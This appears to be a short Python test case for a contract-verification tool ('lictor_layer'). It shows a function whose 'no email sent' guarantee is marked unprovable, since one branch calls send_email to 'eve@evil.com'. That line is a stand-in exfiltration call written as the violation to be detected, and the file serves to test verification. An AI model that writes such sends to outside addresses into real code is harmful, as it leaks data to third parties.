# not proved: on the other it gives None
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, is_allowed


def helper():
    if is_allowed("x"):
        return "bob@example.com"


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if helper() is None:
        send_email("eve@evil.com", "x")
